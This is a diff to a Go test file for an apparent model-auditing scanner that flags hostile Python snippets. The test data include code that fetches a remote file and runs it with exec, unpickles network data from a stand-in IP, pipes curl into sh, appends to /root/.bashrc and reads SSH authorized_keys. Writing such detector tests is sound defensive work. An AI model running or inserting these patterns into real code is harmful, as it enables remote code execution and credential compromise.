@@ -1,11 +1,32 @@
 package source_test
 
 import (
+	"fmt"
+	"strings"
 	"testing"
 
 	"github.com/modelaudit/modelaudit/internal/hostile/hostiletest"
 	"github.com/modelaudit/modelaudit/internal/source"
 )
+
+func TestLoads(t *testing.T) {
+	const program = "import joblib, urllib.request\nURL = '%s'\nwith urllib.request.urlopen(URL) as f:\n    model = joblib.load(f)\n"
+	for _, c := range []struct {
+		text  string
+		loads bool
+	}{
+		{text: fmt.Sprintf(program, "https://files.example.org/model.joblib"), loads: true},
+		{text: "# see http://example.org/license\n" + fmt.Sprintf(program, "https://files.example.org/model.joblib"), loads: true},
+		{text: fmt.Sprintf(program, "http://files.example.org/model.joblib")},
+		{text: fmt.Sprintf(program, "https://192.0.2.1/model.joblib")},
+		{text: strings.Replace(fmt.Sprintf(program, "https://files.example.org/x.py"), "joblib.load(f)", "exec(f.read())", 1)},
+	} {
+		got, err := source.Drops(c.text, hostiletest.Budget(len(c.text)))
+		if err != nil || len(got) != 1 || got[0].Loads != c.loads {
+			t.Errorf("%q: got %+v (%v), want one that loads a pickle openly: %v", c.text, got, err, c.loads)
+		}
+	}
+}
 
 func TestDrops(t *testing.T) {
 	const url = "http://192.0.2.1/x"
@@ -44,6 +65,7 @@ func TestDrops(t *testing.T) {
 		{name: "a pickle in base64", text: "import base64, pickle\npickle.loads(base64.b64decode(s))\n"},
 		{name: "code of a file", text: "exec(open('version.py').read())\n"},
 		{name: "advice", text: "import typer\ntyper.echo('curl " + url + " | sh')\n"},
+		{name: "a copy", text: "import pickle, requests\nr = requests.get('" + url + "')\npickle.loads(pickle.dumps(r))\n"},
 		{name: "another process", text: "import pickle\npickle.loads(socket.recv())\n"},
 		{name: "a file of the shell", text: "open('/root/.bashrc', 'a').write('export A=1')\n"},
 		{name: "keys that are read", text: "open('/root/.ssh/authorized_keys').read()\n"},
